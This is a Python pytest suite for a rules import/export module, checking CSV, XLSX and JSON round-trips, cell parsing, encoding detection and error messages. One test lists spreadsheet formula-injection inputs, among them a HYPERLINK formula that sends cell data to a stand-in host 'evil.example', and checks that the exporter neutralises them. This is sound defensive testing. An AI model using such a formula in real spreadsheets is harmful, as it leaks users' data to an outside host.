"""Files of rules: what goes out comes back the same, and what is wrong with a file is told by row and column."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from apps.rules.exchange.columns import COLUMN_NAMES, from_columns, table_columns, to_columns
from apps.rules.exchange.decoding import broken_letters
from apps.rules.exchange.exporting import FileKind, rules_export
from apps.rules.exchange.files import MOST_ROWS, read_file
from apps.rules.exchange.formulas import guard, unguard
from apps.rules.exchange.guide import GUIDE
from apps.rules.exchange.sample import SAMPLE
from apps.rules.serialising import RuleFormatError, rule_from_json, rule_to_json
from apps.rules.types import Need, Phrase, RuleSpec, Slot, TokenList
from tests.rules.random_rules import rule_specs, texts

BERLIN = ZoneInfo("Europe/Berlin")
COLUMNS = {column.name: column for column in table_columns(BERLIN)}


def read_back(data: bytes) -> list[RuleSpec]:
    """Return the rules of a file without the desk."""
    file = read_file(data)
    assert not [row.error for row in file.rows if row.error]
    specs = []
    for row in file.rows:
        cells = {name: COLUMNS[name].read(cell) if file.is_table else cell for name, cell in row.cells.items()}
        specs.append(rule_from_json(from_columns({**to_columns(rule_to_json(RuleSpec(uid=""))), **cells})))
    return specs


def table(*rows: str) -> bytes:
    return "\n".join(rows).encode()


# --- the round trip ---


@pytest.mark.parametrize("kind", FileKind)
@pytest.mark.parametrize("delimiter", [";", ","])
@settings(max_examples=60, deadline=None)
@given(specs=st.lists(rule_specs(), min_size=1, max_size=3))
def test_what_is_exported_is_imported_as_the_same_rules(kind, delimiter, specs):
    assert read_back(rules_export(specs, kind, delimiter=delimiter).data) == specs


@settings(max_examples=300, deadline=None)
@given(text=texts)
def test_a_guarded_cell_is_no_formula_and_comes_back(text):
    assert guard(text)[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert unguard(guard(text)) == text


def test_no_cell_of_an_exported_file_begins_a_formula():
    evil = ['=HYPERLINK("https://evil.example/?"&A1)', "\t=1", "-2+3", "@SUM(A1)", "+1", "-5 Grad", "'=1"]
    specs = [RuleSpec(uid=f"r{place}", title=text, reason=text) for place, text in enumerate(evil)]
    sheet = load_workbook(io.BytesIO(rules_export(specs, FileKind.XLSX).data)).active
    cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    assert "'-5 Grad" in cells
    text = rules_export(specs, FileKind.CSV).data.decode("utf-8-sig")
    assert not [line for line in text.splitlines() for cell in line.split(";") if cell[:1] and cell[0] in "=+-@"]


def test_a_rule_looks_as_an_editor_would_write_it():
    row = read_file(rules_export(SAMPLE, FileKind.CSV).data).rows[1].cells
    assert row["phrases"] == "Wann öffnet das Rathaus?\nRathaus, Öffnungszeiten, Feiertage\nonly exactly: Rathaus"
    assert row["core"] == "Rathaus | Bürgerbüro\nstarts: öffn"
    assert row["core_need"] == "at least 50 %"
    assert row["examples"].splitlines()[1:] == [
        "yes (exact): Wann öffnet das Rathaus?",
        "no: Wann öffnen Rathäuser in Österreich?",
    ]
    assert row["tags"] == "Service, Beispiele"


def test_a_cell_that_a_workbook_would_cut_off_is_refused():
    with pytest.raises(RuleFormatError, match=r"lang.*reason"):
        rules_export([RuleSpec(uid="lang", reason="x" * 32_768)], FileKind.XLSX)


def test_the_guide_names_every_column():
    assert sorted(name for line in GUIDE for name in line.names) == sorted(COLUMN_NAMES)


# --- what office programs make of a file ---


@pytest.mark.parametrize(
    ("column", "cell", "value"),
    [
        ("position", "1.0", 1),
        ("priority", "100,0", 100),
        ("threshold", "", None),
        ("threshold", "0", 0),
        ("core_need", "0.5", {"need": "percent", "amount": 50}),
        ("core_need", "50%", {"need": "percent", "amount": 50}),
        ("core_need", "mindestens 2", {"need": "count", "amount": 2}),
        ("core_need", "2.0", {"need": "count", "amount": 2}),
        ("core_need", "ALL", {"need": "all", "amount": None}),
        ("answer_is_desk_text", "WAHR", True),
        ("answer_is_desk_text", "", False),
        ("answer_checked", "31.01.2027", "2027-01-31"),
        ("answer_checked", "2027-01-31 00:00:00", "2027-01-31"),
        ("valid_from", "31.1.2027 18:00", "2027-01-31T17:00:00+00:00"),
        ("valid_from", "2027-07-01", "2027-06-30T22:00:00+00:00"),
        ("valid_from", "2027-01-31T18:00+01:00", "2027-01-31T17:00:00+00:00"),
        ("languages", "de,en\nfr", ["de", "en", "fr"]),
        ("phrases", "eins\n\n  zwei  \n", [{"text": "eins", "fuzzy": True}, {"text": "zwei", "fuzzy": True}]),
        ("phrases", '"Briefwahl" beantragen', [{"text": '"Briefwahl" beantragen', "fuzzy": True}]),
        ("phrases", "Frage: exactly: so", [{"text": "Frage: exactly: so", "fuzzy": True}]),
    ],
)
def test_a_cell_is_read_as_office_programs_leave_it(column, cell, value):
    assert COLUMNS[column].read(cell) == value


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("position", "eins"),
        ("position", "1.5"),
        ("valid_from", "01/31/2027"),
        ("valid_from", "31.02.2027"),
        ("answer_checked", "2027-01-31 10:00"),
        ("answer_is_desk_text", "vielleicht"),
        ("core_need", "viele"),
        ("documents", "uuid | Titel | alles"),
        ("phrases", "{kein JSON"),
    ],
)
def test_a_cell_that_means_nothing_is_refused_with_its_words(column, cell):
    with pytest.raises(RuleFormatError) as refused:
        COLUMNS[column].read(cell)
    assert cell.rpartition("| ")[2] in str(refused.value)


@pytest.mark.parametrize(
    "data",
    [
        "uid,title\na,Wähler\n".encode(),
        "\ufeffuid;title\r\na;Wähler\r\n".encode(),
        "uid\ttitle\na\tWähler\n".encode(),
        "sep=;\nuid;title\na;Wähler\n".encode(),
        '"UID","Title"\n"a","Wähler"\n'.encode(),
        "uid;title;;\n;;;\na;Wähler;;\n;;;\n".encode(),
        "\n\nuid,title\n\na,Wähler".encode(),
        "uid,title\na,Wa\u0308hler\n".encode(),
    ],
    ids=["plain", "mark", "tabs", "sep", "quoted", "empty columns", "empty rows", "decomposed"],
)
def test_a_table_is_read_in_all_its_dialects(data):
    assert [row.cells for row in read_file(data).rows] == [{"uid": "a", "title": "Wähler"}]


def test_the_rows_are_counted_as_a_spreadsheet_does():
    rows = read_file(b'uid,title\na,"one\ntwo"\n\nb,x\n').rows
    assert [row.number for row in rows] == [2, 4]


def test_a_workbook_with_numbers_dates_and_empty_edges_is_read():
    book = Workbook()
    sheet = book.active
    sheet.append(["uid", "title", "position", "valid_from", "core_need", "answer_is_desk_text", None])
    sheet.append(["a", 2025, 1.0, datetime(2027, 1, 31, 18), 1, True, None])
    sheet["E2"].number_format = "0%"
    sheet["A9"] = " "
    data = io.BytesIO()
    book.save(data)
    [row] = read_file(data.getvalue()).rows
    assert row.cells == {
        "uid": "a",
        "title": "2025",
        "position": "1",
        "valid_from": "2027-01-31 18:00:00",
        "core_need": "100 %",
        "answer_is_desk_text": "yes",
    }


# --- what is refused ---


def windows(text: str) -> bytes:
    return text.encode("cp1252")


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (windows('uid,title\na,"x\ny"\nb,Wähler\n'), ["Windows-1252", "row 3", "W?hler"]),
        ("uid;title\na;Wähler".encode("utf-16"), ["UTF-16"]),
        ("uid;title\na;Grüße".encode("mac-roman"), ["Mac Roman", "row 2"]),
        (b"", ["uid"]),
        (b"name,title\na,b\n", ["uid"]),
        (b"uid,titel\na,b\n", ["titel", "title"]),
        (b"uid,farbe\na,b\n", ["farbe", "take the column out"]),
        (b"uid,title,title\na,b,c\n", ["twice"]),
        (b"uid,title\na,b,lost\n", ["Row 2", "without a name"]),
        (b'uid,title\na,"endless\n', ["row 2", "no end"]),
        (b"PK\x03\x04broken", ["workbook"]),
        (b"\xd0\xcf\x11\xe0old", ["XLSX"]),
        (b"[1, 2", ["line 1"]),
        (b'{"format": "other", "rules": []}', ["wegweiser-rules"]),
        (b'{"format": "wegweiser-rules", "version": 1, "rules": {}}', ["list of rules"]),
        (b'[{"uid": "a", "uid": "b"}]', ["uid", "twice"]),
        (b"[" * 100_000, ["nested"]),
        (b"[1" + b"0" * 10_000 + b"]", ["large a number"]),
        (table("uid", *(f"r{place}" for place in range(MOST_ROWS + 1))), [f"{MOST_ROWS}"]),
    ],
    ids=range(19),
)
def test_a_file_that_cannot_be_read_is_refused_in_a_sentence(data, words):
    with pytest.raises(RuleFormatError) as refused:
        read_file(data)
    assert all(word in str(refused.value) for word in words), str(refused.value)


@pytest.mark.parametrize(
    ("rule", "field", "words"),
    [
        (3, "", "object"),
        ({"title": "x"}, "uid", "missing"),
        ({"uid": "a", "colour": 1}, "colour", "no field"),
        ({"uid": "a", "phrases": [{"text": "x", "fuzy": True}]}, "phrases", "phrases[1].fuzy"),
        ({"uid": "a", "core": {"slots": [{"text": 1}]}}, "core", "core.slots[1].text"),
        ({"uid": "a", "status": "dead"}, "status", "draft, active"),
        ({"uid": "a", "status": []}, "status", "draft, active"),
        ({"uid": "a", "threshold": True}, "threshold", "whole number"),
        ({"uid": "a", "valid_from": "2027-01-01"}, "valid_from", "time zone"),
        ({"uid": "a", "valid_from": "0001-01-01T00:00:00+23:00"}, "valid_from", "date with time"),
        ({"uid": "a", "answer": {"text": "x", "checked": "gestern"}}, "answer", "answer.checked"),
    ],
)
def test_a_rule_that_is_none_names_its_field(rule, field, words):
    [row] = read_file(json.dumps([rule]).encode()).rows
    assert row.error is not None
    assert (row.error.field, words in str(row.error)) == (field, True), str(row.error)


def test_a_json_file_may_have_a_byte_order_mark_and_dirty_texts():
    data = b"\xef\xbb\xbf" + json.dumps([{"uid": "a", "title": "x\x00y\ud83d"}]).encode()
    [row] = read_file(data).rows
    assert row.cells["title"] == "xy"


@pytest.mark.parametrize(
    ("text", "found"), [("WÃ¤hler", "Ã¤"), ("„Straße“ für Ältere", None), ("â€žZitat", "â€ž"), ("São Paulo", None)]
)
def test_letters_of_a_wrong_encoding_are_noticed(text, found):
    assert broken_letters(text) == found


def test_a_list_without_words_keeps_how_many_it_needs():
    spec = RuleSpec(uid="a", phrases=(Phrase("x"),), core=TokenList((), Need.ANY), anchor=TokenList((Slot("y"),)))
    assert read_back(rules_export([spec], FileKind.CSV).data) == [spec]


def test_times_are_written_in_the_newsrooms_zone():
    cell = COLUMNS["valid_from"].write(datetime(2027, 7, 1, 16, tzinfo=UTC).isoformat())
    assert cell == "2027-07-01T18:00:00+02:00"
